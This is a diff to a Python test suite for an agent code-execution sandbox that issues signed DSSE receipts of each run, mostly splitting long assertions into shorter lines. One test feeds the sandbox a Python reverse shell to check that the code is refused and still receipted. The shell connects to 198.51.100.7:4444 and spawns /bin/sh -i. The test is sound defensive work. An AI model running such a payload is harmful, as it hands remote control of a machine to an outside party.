@@ -17,8 +17,10 @@ VERIFIER = helpers.ROOT / "docs/verify_receipt.py"
 # another implementation of the envelope (npm's @sigstore/core), and node's own Ed25519
 JUDGE = """
 const fs = require('fs'), crypto = require('crypto'), {dsse} = require(process.argv[1]);
-const envelope = JSON.parse(fs.readFileSync(process.argv[2])), prefix = Buffer.from('302a300506032b6570032100', 'hex');
-const key = crypto.createPublicKey({key: Buffer.concat([prefix, Buffer.from(process.argv[3], 'hex')]), format: 'der', type: 'spki'});
+const envelope = JSON.parse(fs.readFileSync(process.argv[2]));
+const prefix = Buffer.from('302a300506032b6570032100', 'hex');
+const der = Buffer.concat([prefix, Buffer.from(process.argv[3], 'hex')]);
+const key = crypto.createPublicKey({key: der, format: 'der', type: 'spki'});
 const signed = dsse.preAuthEncoding(envelope.payloadType, Buffer.from(envelope.payload, 'base64'));
 console.log(envelope.signatures.map(s => crypto.verify(null, signed, key, Buffer.from(s.sig, 'base64'))).join());
 """
@@ -80,27 +82,31 @@ def test_the_receipt_says_what_the_run_was(receipt):
     r, s = receipt.done.result, statement(receipt.envelope)
     p, names = s["predicate"], subjects(receipt.envelope)
     assert s["subject"][0] == {"name": "code", "digest": {"sha256": sha256(CODE)}}
-    assert names["stdout/stdout"] == sha256("said\n") and names["workspace/left.txt"] == sha256("behind") and "plan/plan.json" in names
-    assert (p["execution_id"], p["agent_id"], p["language"], p["backend"]) == (r["execution_id"], None, "python", r["backend"])
+    assert (names["stdout/stdout"], names["workspace/left.txt"]) == (sha256("said\n"), sha256("behind"))
+    assert "plan/plan.json" in names
+    assert (p["execution_id"], p["agent_id"]) == (r["execution_id"], None)
+    assert (p["language"], p["backend"]) == ("python", r["backend"])
     assert p["verdict"] == {"decision": "allowed", "risk_level": "low", "rule": None, "reasons": r["reasons"]}
     assert p["end"] == {"reason": "completed", "exit_code": 0, "signal": None, "kill_switch": None}
     for name in ("isolation", "violations", "findings", "error"):
         assert p[name] == r[name], name
-    assert p["usage"]["cpu_us"] == round(r["cpu_ms"] * 1000) and p["usage"]["peak_memory_bytes"] == r["peak_memory_bytes"]
+    assert p["usage"]["cpu_us"] == round(r["cpu_ms"] * 1000)
+    assert p["usage"]["peak_memory_bytes"] == r["peak_memory_bytes"]
     decided = [e for e in audit_lines(receipt.box) if e["event"]["action"] == "execution-decided"][-1]
     assert p["plan_hash"] == decided["agentsandbox"]["plan_hash"] and re.fullmatch("[0-9a-f]{64}", p["policy_hash"])
 
 
 def test_the_receipt_names_a_line_of_the_audit_that_was_there(receipt):
     p = statement(receipt.envelope)["predicate"]
-    assert p["audit"]["hash"] in {e["event"]["hash"] for e in audit_lines(receipt.box) if e["event"]["sequence"] == p["audit"]["sequence"]}
+    lines = {e["event"]["sequence"]: e["event"]["hash"] for e in audit_lines(receipt.box)}
+    assert lines[p["audit"]["sequence"]] == p["audit"]["hash"]
 
 
 def test_the_capture_manifest_tells_what_was_seen_and_what_was_not(receipt):
     capture = statement(receipt.envelope)["predicate"]["capture"]
     profile = helpers.shipped("low")["monitoring"]
-    keys = {"system calls": "syscall_monitoring", "network": "network_attempt_detection", "files": "file_access_monitoring",
-            "privileges": "privilege_escalation_detection"}
+    keys = {"system calls": "syscall_monitoring", "network": "network_attempt_detection",
+            "files": "file_access_monitoring", "privileges": "privilege_escalation_detection"}
     unseen = {x["what"]: x["why"] for x in capture["not_observed"]}
     assert {"end", "usage", "stdout", "stderr", "workspace"} <= set(capture["observed"])
     for what, key in keys.items():
@@ -114,7 +120,8 @@ def test_three_programs_that_share_no_line_agree(receipt, tmp_path):
     assert set(receipt.judges(receipt.file)) == {True}
     changed = tmp_path / "changed.json"
     body = base64.b64decode(receipt.envelope["payload"]).replace(b'"allowed"', b'"refused"')
-    changed.write_text(json.dumps({**receipt.envelope, "payload": base64.b64encode(body).decode()}, separators=(",", ":")))
+    payload = base64.b64encode(body).decode()
+    changed.write_text(json.dumps({**receipt.envelope, "payload": payload}, separators=(",", ":")))
     assert body and set(receipt.judges(changed)) == {False}
     assert set(receipt.judges(receipt.file, "00" * 31 + "01")) == {False}
     typed = tmp_path / "typed.json"
@@ -124,7 +131,8 @@ def test_three_programs_that_share_no_line_agree(receipt, tmp_path):
 
 def test_the_other_implementation_is_there():
     if not SIGSTORE.exists() or not shutil.which("node", path="/usr/local/bin:/usr/bin:/bin"):
-        helpers.skip("no second implementation of DSSE: %s is missing (npm ci --ignore-scripts in tests/openapi)" % SIGSTORE)
+        helpers.skip("no second implementation of DSSE: %s is missing (npm ci --ignore-scripts in tests/openapi)" %
+                     SIGSTORE)
 
 
 def test_verify_compares_files_with_the_subjects(receipt, tmp_path):
@@ -154,13 +162,15 @@ def test_equal_rules_have_equal_hashes_and_other_limits_another_one(receipt):
 
 def test_a_refusal_has_a_receipt_too(box):
     box.user_config({"agixt": {"analysis": {"enabled": True}}})
-    r = Receipt(box, "import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\n"
-                     "subprocess.call(['/bin/sh', '-i'])\n", level="high")
+    r = Receipt(box, "import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n"
+                     "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])\n", level="high")
     assert r.done.code == 123, r.done
     p = statement(r.envelope)["predicate"]
-    assert p["verdict"]["decision"] == "refused" and p["verdict"]["rule"] and p["findings"] == r.done.result["findings"] != []
-    assert p["end"]["reason"] == "policy_denied" and p["isolation"] is None and p["error"]["code"] == r.done.result["error"]["code"]
-    assert {"end", "network"} <= {x["what"] for x in p["capture"]["not_observed"]} and set(subjects(r.envelope)) == {"code"}
+    result, unseen = r.done.result, {x["what"] for x in p["capture"]["not_observed"]}
+    assert p["verdict"]["decision"] == "refused" and p["verdict"]["rule"]
+    assert p["findings"] == result["findings"] != [] and p["error"]["code"] == result["error"]["code"]
+    assert p["end"]["reason"] == "policy_denied" and p["isolation"] is None
+    assert {"end", "network"} <= unseen and set(subjects(r.envelope)) == {"code"}
     assert set(r.judges(r.file)) == {True}
 
 
@@ -168,7 +178,8 @@ def test_without_artifacts_the_receipt_says_that_nothing_was_kept(box):
     box.user_config({"security": {"store_artifacts": {"enabled": False}}})
     r = Receipt(box, "print(1)")
     assert set(subjects(r.envelope)) == {"code"}
-    assert "security.store_artifacts.enabled" in {x["what"]: x["why"] for x in statement(r.envelope)["predicate"]["capture"]["not_observed"]}["artifacts"]
+    unseen = {x["what"]: x["why"] for x in statement(r.envelope)["predicate"]["capture"]["not_observed"]}
+    assert "security.store_artifacts.enabled" in unseen["artifacts"]
 
 
 def test_a_receipt_that_cannot_be_written_is_told_before_or_after_and_never_silent(box):
@@ -187,15 +198,18 @@ def service():
 def test_the_service_gives_the_receipt_of_each_run(service, tmp_path):
     r = service.run(CODE, "python", risk_level="low")
     answer = service.request("GET", "/executions/%s/receipt" % r["execution_id"])
-    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("application/vnd.dsse.envelope.v1+json"), answer.text
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["Content-Type"].startswith("application/vnd.dsse.envelope.v1+json")
     file, public = tmp_path / "receipt.json", (service.state_dir / "audit.pub").read_text().strip()
     file.write_bytes(answer.content)
     checked = subprocess.run([sys.executable, VERIFIER, file, public], capture_output=True, text=True)
     assert checked.returncode == 0, checked
     p = json.loads(checked.stdout)
-    assert p["execution_id"] == r["execution_id"] and p["isolation"] == r["isolation"] and p["end"]["reason"] == "completed"
+    assert p["execution_id"] == r["execution_id"] and p["isolation"] == r["isolation"]
+    assert p["end"]["reason"] == "completed"
     listed = service.request("GET", "/executions/%s/artifacts" % r["execution_id"]).json()["artifacts"]
-    assert subjects(answer.json()) == {**{"%s/%s" % (a["role"], a["name"]): a["sha256"] for a in listed if a["role"] != "code"}, "code": sha256(CODE)}
+    kept = {"%s/%s" % (a["role"], a["name"]): a["sha256"] for a in listed if a["role"] != "code"}
+    assert subjects(answer.json()) == {**kept, "code": sha256(CODE)}
 
 
 def test_a_service_that_makes_none_says_so(service):
@@ -208,4 +222,5 @@ def test_a_service_that_makes_none_says_so(service):
         return service.request("GET", "/executions/%s/receipt" % e).status_code == 200
     assert not helpers.poll(has_one, 60)
     e = service.run("print(1)", "python")["execution_id"]
-    assert "security.receipts" in error_of(service.request("GET", "/executions/%s/receipt" % e), 404, "not_found")["message"]
+    error = error_of(service.request("GET", "/executions/%s/receipt" % e), 404, "not_found")
+    assert "security.receipts" in error["message"]
